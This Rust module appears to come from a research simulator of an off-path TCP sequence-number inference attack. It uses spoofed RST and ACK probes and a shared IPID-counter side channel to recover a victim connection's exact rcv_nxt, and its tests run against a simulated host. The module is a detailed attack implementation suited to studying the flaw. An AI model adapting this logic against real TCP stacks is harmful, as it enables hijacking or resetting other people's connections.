//! Sequence-number inference over the shared-counter side channel.
//!
//! Three steps against an established connection whose four-tuple is known:
//! find *some* in-window sequence number with spoofed RSTs (in-window but
//! inexact draws a challenge ACK, out-of-window is silent), pick an ACK
//! value inside the challenge window, then walk the left window edge with
//! spoofed ACKs: a segment sequenced below the window draws an unlimited
//! duplicate ACK, one inside the window draws at most one rate-limited
//! challenge — the jitter that pins `rcv_nxt` exactly.

use std::collections::VecDeque;
use std::net::Ipv4Addr;

use crate::attacker::observe::ObservationStream;
use crate::attacker::{AttackConfig, AttackerIo, FailureReason, Pacer, Phase};
use crate::net::packet::{Packet, TcpFlags, TcpSegment};
use crate::net::rng::mix64;

const CHUNK: usize = 8;
const PROBE_SPACING_MS: u64 = 25;

/// Re-reads of a lost counter view before a candidate chunk is given up.
/// A skipped chunk that held the one in-window candidate costs an entire
/// sweep of the 4-billion sequence space, so retries are generous.
const SPAN_RETRIES: u32 = 4;

fn rst_probe(cfg: &AttackConfig, port: u16, seq: u32) -> Packet {
    let seg = TcpSegment::new(port, cfg.server_port, seq, 0, TcpFlags::RST);
    Packet::tcp(cfg.client, cfg.server, 0, true, seg)
}

fn ack_probe(cfg: &AttackConfig, port: u16, seq: u32, ack: u32) -> Packet {
    let seg = TcpSegment::new(port, cfg.server_port, seq, ack, TcpFlags::ACK);
    Packet::tcp(cfg.client, cfg.server, 0, true, seg)
}

fn rearm(io: &mut AttackerIo<'_>, cfg: &AttackConfig, stream: &mut ObservationStream) {
    let t = io.now() + cfg.challenge_ack_interval_ms + 20;
    stream.pump_until(io, t);
}

/// Bracket `probes` between two echo cut points, `spacing_ms` apart, and
/// report the surplus increments in the span (`None` = cut echoes lost).
fn probed_extra(
    io: &mut AttackerIo<'_>,
    stream: &mut ObservationStream,
    probes: &[Packet],
    spacing_ms: u64,
) -> Option<i64> {
    let cut_a = stream.last_sent();
    for (i, p) in probes.iter().enumerate() {
        if i > 0 {
            stream.pump_until(io, io.now() + spacing_ms);
        }
        io.send(p.clone());
    }
    let cut_b = stream.pump_one_echo(io);
    let deadline = stream.sent_time(cut_b) + io.settle_ms() + 40;
    stream.settle_extra(io, cut_a, cut_b, deadline)
}

/// Find one sequence number inside the receive window by sweeping spoofed
/// RSTs with a window-sized stride from a start derived from the clock.
/// Candidates go out in pipelined chunks bracketed by echo cut points; a hot
/// chunk is replayed one candidate at a time.
pub fn infer_acceptable_seq(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
) -> Result<u32, FailureReason> {
    let deadline = io.now() + cfg.timeout(Phase::SeqInference);
    for _ in 0..=cfg.retry_on_ambiguity {
        match sweep_seq_once(io, cfg, probe_src, port, deadline) {
            Some(seq) => return Ok(seq),
            None => {}
        }
        if io.now() > deadline {
            return Err(FailureReason::Timeout(Phase::SeqInference));
        }
    }
    Err(FailureReason::Ambiguous)
}

fn sweep_seq_once(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
    deadline: u64,
) -> Option<u32> {
    let stride = cfg.assumed_rcv_wnd;
    let n_cand = (u64::from(u32::MAX) / u64::from(stride) + 2) as u32;
    let start = mix64(io.now() ^ (io.packets_sent() << 20)) as u32;

    let echo_rate = (1000 / cfg.echo_interval_ms) as u32;
    let probe_rate = cfg.probe_rate_pps.saturating_sub(echo_rate).max(1);
    let icmp_id = 0x7003 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    rearm(io, cfg, &mut stream);

    struct ChunkProbe {
        first: u32,
        len: u32,
        cut_a: u64,
        cut_b: u64,
        attempts: u32,
    }
    struct QueuedChunk {
        first: u32,
        len: u32,
        attempts: u32,
        /// Earliest re-probe time; a lost view may have hidden a consumed
        /// challenge, and a hot chunk re-read inside the limiter interval
        /// would come back clean.
        not_before: u64,
    }
    let mut queue: VecDeque<QueuedChunk> = VecDeque::new();
    let mut i = 0u32;
    while i < n_cand {
        let len = (n_cand - i).min(CHUNK as u32);
        queue.push_back(QueuedChunk { first: i, len, attempts: 0, not_before: 0 });
        i += len;
    }
    let mut pending: VecDeque<ChunkProbe> = VecDeque::new();
    let mut pace = Pacer::new(io.now(), probe_rate);
    let mut hot: Option<(u32, u32)> = None;

    'sweep: loop {
        while let Some(front) = pending.front() {
            let ready_at = stream.sent_time(front.cut_b) + io.settle_ms();
            if io.now() < ready_at {
                break;
            }
            let c = pending.pop_front().unwrap();
            match stream.extra_between(c.cut_a.max(1), c.cut_b) {
                Some(d) if d >= 1 => {
                    hot = Some((c.first, c.len));
                    break 'sweep;
                }
                Some(_) => {}
                None if c.attempts < SPAN_RETRIES => queue.push_back(QueuedChunk {
                    first: c.first,
                    len: c.len,
                    attempts: c.attempts + 1,
                    not_before: io.now() + cfg.challenge_ack_interval_ms + 20,
                }),
                None => io.note("sequence chunk lost; skipping"),
            }
        }
        if io.now() > deadline {
            return None;
        }
        let Some(chunk) = queue.pop_front() else {
            if pending.is_empty() {
                break 'sweep;
            }
            let t = stream.sent_time(pending.front().unwrap().cut_b) + io.settle_ms();
            stream.pump_until(io, t.max(io.now() + 1));
            continue;
        };
        if io.now() < chunk.not_before {
            // rotate to a ready chunk; if none is ready, idle on the cadence
            // until the earliest limiter window reopens
            let all_waiting = queue.iter().all(|q| io.now() < q.not_before);
            let earliest = queue
                .iter()
                .map(|q| q.not_before)
                .chain(std::iter::once(chunk.not_before))
                .min()
                .unwrap();
            queue.push_back(chunk);
            if all_waiting {
                let t = match pending.front() {
                    Some(front) => (stream.sent_time(front.cut_b) + io.settle_ms()).min(earliest),
                    None => earliest,
                };
                stream.pump_until(io, t.max(io.now() + 1));
            }
            continue;
        }
        pace.realign(io.now());
        let cut_a = stream.last_sent();
        for k in 0..chunk.len {
            let t = pace.take().max(io.now());
            stream.pump_until(io, t);
            let seq = start.wrapping_add((chunk.first + k).wrapping_mul(stride));
            io.send(rst_probe(cfg, port, seq));
        }
        let cut_b = stream.pump_one_echo(io);
        pending.push_back(ChunkProbe {
            first: chunk.first,
            len: chunk.len,
            cut_a,
            cut_b,
            attempts: chunk.attempts,
        });
    }

    let (first, len) = hot?;
    // the chunk hit consumed the limiter; probe its members one by one
    for pass in 0..=cfg.retry_on_ambiguity {
        rearm(io, cfg, &mut stream);
        for k in 0..len {
            let seq = start.wrapping_add((first + k).wrapping_mul(stride));
            let mut verdict = None;
            for attempt in 0..=SPAN_RETRIES {
                if attempt > 0 {
                    rearm(io, cfg, &mut stream);
                }
                match probed_extra(io, &mut stream, &[rst_probe(cfg, port, seq)], 0) {
                    Some(d) => {
                        verdict = Some(d);
                        break;
                    }
                    None => {}
                }
            }
            match verdict {
                Some(d) if d >= 1 => return Some(seq),
                Some(_) => {}
                None => io.note("individual sequence probe lost"),
            }
            if io.now() > deadline {
                return None;
            }
        }
        if pass < cfg.retry_on_ambiguity {
            io.note("hot sequence chunk did not replay; retrying its members");
        }
    }
    None
}

/// Quarter-point ACK values, absolute: at least one of them sits in the
/// challenge-ACK window whatever `snd_una` is.
const ACK_POINTS: [u32; 4] = [0, 1 << 30, 1 << 31, 3 << 30];

/// Find an ACK value the victim answers with a challenge ACK, given an
/// in-window sequence number. One or two of the four quarter points must
/// answer; anything else is reported as ambiguity.
pub fn locate_challenge_window(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
    seq_acc: u32,
) -> Result<u32, FailureReason> {
    let deadline = io.now() + cfg.timeout(Phase::ChallengeWindow);
    let icmp_id = 0x7004 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    for _ in 0..=cfg.retry_on_ambiguity {
        rearm(io, cfg, &mut stream);
        let mut hits: Vec<u32> = Vec::new();
        for ack in ACK_POINTS {
            let mut verdict = None;
            for attempt in 0..=SPAN_RETRIES {
                if attempt > 0 {
                    // the lost read may have hidden a hit that consumed the
                    // limiter; recover before re-reading
                    rearm(io, cfg, &mut stream);
                }
                match probed_extra(io, &mut stream, &[ack_probe(cfg, port, seq_acc, ack)], 0) {
                    Some(d) => {
                        verdict = Some(d >= 1);
                        break;
                    }
                    None => {}
                }
            }
            if verdict == Some(true) {
                hits.push(ack);
                rearm(io, cfg, &mut stream);
            }
            if io.now() > deadline {
                return Err(FailureReason::Timeout(Phase::ChallengeWindow));
            }
        }
        match hits.len() {
            1 | 2 => return Ok(hits[0]),
            n => io.note(format!("challenge-window probe hit {n} quarter points; retrying")),
        }
    }
    Err(FailureReason::Ambiguous)
}

/// Pin `rcv_nxt` exactly. Below-window segments draw one duplicate ACK
/// *per probe* with no rate limit; in-window segments draw at most one
/// challenge ACK per limiter interval — so three spaced probes separate the
/// two sides no matter what the limiter state is, and no recovery waits are
/// needed between the binary-search steps.
pub fn detect_exact_seq(
    io: &mut AttackerIo<'_>,
    cfg: &AttackConfig,
    probe_src: Ipv4Addr,
    port: u16,
    seq_acc: u32,
    ack_ch: u32,
) -> Result<u32, FailureReason> {
    let deadline = io.now() + cfg.timeout(Phase::ExactSeq);
    let icmp_id = 0x7005 | ((io.packets_sent() as u16 & 0xff) << 4);
    let mut stream = ObservationStream::begin(io, probe_src, cfg.server, icmp_id, cfg.echo_interval_ms);
    stream.pump_until(io, io.now() + cfg.echo_interval_ms * 2);

    // P(seq) = "seq is below the receive window" (>=2 surplus increments)
    let below = |io: &mut AttackerIo<'_>, stream: &mut ObservationStream, seq: u32| -> Option<bool> {
        let probes = [
            ack_probe(cfg, port, seq, ack_ch),
            ack_probe(cfg, port, seq, ack_ch),
            ack_probe(cfg, port, seq, ack_ch),
        ];
        let d = probed_extra(io, stream, &probes, PROBE_SPACING_MS)?;
        Some(d >= 2)
    };
    // no recovery wait between attempts: duplicate ACKs are unlimited, and
    // a retry that falls inside the limiter interval of a hidden challenge
    // still reads "not below" correctly (d stays under 2 either way)
    let below_retry = |io: &mut AttackerIo<'_>,
                           stream: &mut ObservationStream,
                           seq: u32|
     -> Result<bool, FailureReason> {
        for _ in 0..=SPAN_RETRIES {
            if let Some(v) = below(io, stream, seq) {
                return Ok(v);
            }
        }
        Err(FailureReason::NoJitter)
    };

    // descend until some multiple of the stride behind seq_acc is below
    let stride = cfg.assumed_rcv_wnd;
    let mut lo = None;
    for k in 1..=16u32 {
        let cand = seq_acc.wrapping_sub(stride.wrapping_mul(k));
        if below_retry(io, &mut stream, cand)? {
            lo = Some(cand);
            break;
        }
        if io.now() > deadline {
            return Err(FailureReason::Timeout(Phase::ExactSeq));
        }
    }
    let Some(mut lo) = lo else {
        return Err(FailureReason::NoJitter);
    };
    let mut hi = seq_acc; // in-window by contract

    while hi.wrapping_sub(lo) > 1 {
        let mid = lo.wrapping_add(hi.wrapping_sub(lo) / 2);
        if below_retry(io, &mut stream, mid)? {
            lo = mid;
        } else {
            hi = mid;
        }
        if io.now() > deadline {
            return Err(FailureReason::Timeout(Phase::ExactSeq));
        }
    }
    Ok(hi)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::attacker::collision::find_colliding_address;
    use crate::attacker::downgrade::{perform_downgrade, EmbeddedSource};
    use crate::net::rng::{stream_rng, StreamId};
    use crate::net::sim::{AddrSet, HostId, Simulation};
    use crate::victim::endpoint::{EndpointConfig, FourTuple};
    use crate::victim::host::VictimHost;
    use crate::victim::ipid::PolicyVariant;
    use crate::victim::pmtud::PmtudConfig;
    use rand::SeedableRng;
    use rand_chacha::ChaCha8Rng;

    const SERVER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const CLIENT: Ipv4Addr = Ipv4Addr::new(172, 16, 0, 9);
    const POOL: Ipv4Addr = Ipv4Addr::new(198, 18, 0, 0);
    const PORT: u16 = 40_123;

    fn build(seed: u64, rcv_nxt: u32, snd_una: u32) -> (Simulation, HostId, HostId, AttackConfig) {
        let mut sim = Simulation::new(stream_rng(seed, StreamId::LinkLoss), false);
        let mut ecfg = EndpointConfig::default();
        ecfg.listening_ports.insert(22);
        let mut victim = VictimHost::new(
            SERVER,
            PolicyVariant::MixedDfBased,
            ecfg,
            PmtudConfig::default(),
            ChaCha8Rng::seed_from_u64(seed ^ 0xc3c3),
        );
        let tuple = FourTuple { peer_addr: CLIENT, peer_port: PORT, local_port: 22 };
        victim.install_established(tuple, rcv_nxt.wrapping_sub(1), rcv_nxt, snd_una, snd_una);
        let vid = sim.add_reactive_host("server", AddrSet::single(SERVER), Box::new(victim));
        let mut addrs = AddrSet::single(POOL);
        addrs.add_block(POOL, 16_384);
        let aid = sim.add_mailbox_host("attacker", addrs);
        let cfg = AttackConfig::new(SERVER, 22, CLIENT, POOL, 16_384);
        (sim, vid, aid, cfg)
    }

    fn prepared_collider(sim: &mut Simulation, aid: HostId, cfg: &AttackConfig) -> Ipv4Addr {
        let mut io = AttackerIo::new(sim, aid);
        io.measure_rtt(POOL, SERVER);
        perform_downgrade(&mut io, cfg, CLIENT, EmbeddedSource::SyntheticEchoReply);
        io.advance(50);
        find_colliding_address(&mut io, cfg)
            .collider
            .expect("seeded pool should contain a collider")
    }

    #[test]
    fn acceptable_seq_lands_inside_the_receive_window() {
        let rcv_nxt = 0x1357_9bdf;
        let (mut sim, _vid, aid, cfg) = build(51, rcv_nxt, 0x2222_0000);
        let collider = prepared_collider(&mut sim, aid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        let seq = infer_acceptable_seq(&mut io, &cfg, collider, PORT).expect("sweep must land");
        let off = seq.wrapping_sub(rcv_nxt);
        assert!(off < 87_380, "found {seq:#x}, offset {off} outside the window");
    }

    #[test]
    fn challenge_window_quarter_point_is_truly_in_window() {
        let rcv_nxt = 0xdead_0000u32;
        let snd_una = 0x0f0f_0f0fu32;
        let (mut sim, vid, aid, cfg) = build(52, rcv_nxt, snd_una);
        let collider = prepared_collider(&mut sim, aid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        let seq_acc = rcv_nxt.wrapping_add(1200);
        let ack = locate_challenge_window(&mut io, &cfg, collider, PORT, seq_acc).expect("window");
        let back = snd_una.wrapping_sub(ack);
        assert!(
            (65_536..=(1u32 << 31) - 1).contains(&back),
            "ack {ack:#x} gives back-distance {back:#x}, not in challenge window"
        );
        let _ = vid;
    }

    #[test]
    fn exact_seq_recovers_rcv_nxt_bit_for_bit() {
        for (seed, rcv_nxt, snd_una) in
            [(53u64, 0x0000_1000u32, 0x9999_9999u32), (54, 0xffff_fff0, 0x4444_4444)]
        {
            let (mut sim, _vid, aid, cfg) = build(seed, rcv_nxt, snd_una);
            let collider = prepared_collider(&mut sim, aid, &cfg);
            let mut io = AttackerIo::new(&mut sim, aid);
            let seq_acc = rcv_nxt.wrapping_add(40_000);
            let ack = locate_challenge_window(&mut io, &cfg, collider, PORT, seq_acc).expect("window");
            let got = detect_exact_seq(&mut io, &cfg, collider, PORT, seq_acc, ack).expect("exact");
            assert_eq!(got, rcv_nxt, "seed {seed}");
        }
    }

    #[test]
    fn exact_seq_needs_no_limiter_recovery_between_steps() {
        // rcv_nxt such that many binary steps land in-window consecutively:
        // the limiter suppresses most challenges, yet the verdicts stay right.
        let rcv_nxt = 0x8000_0000u32;
        let (mut sim, _vid, aid, cfg) = build(55, rcv_nxt, 0x1111_1111);
        let collider = prepared_collider(&mut sim, aid, &cfg);
        let mut io = AttackerIo::new(&mut sim, aid);
        let seq_acc = rcv_nxt.wrapping_add(87_379); // right window edge
        let ack = locate_challenge_window(&mut io, &cfg, collider, PORT, seq_acc).expect("window");
        let before = io.now();
        let got = detect_exact_seq(&mut io, &cfg, collider, PORT, seq_acc, ack).expect("exact");
        assert_eq!(got, rcv_nxt);
        // ~18 predicate evaluations, none of which waits out the 500 ms
        // limiter: the whole refinement stays well under 18 * 500 ms.
        assert!(io.now() - before < 8_000, "took {} ms", io.now() - before);
    }
}
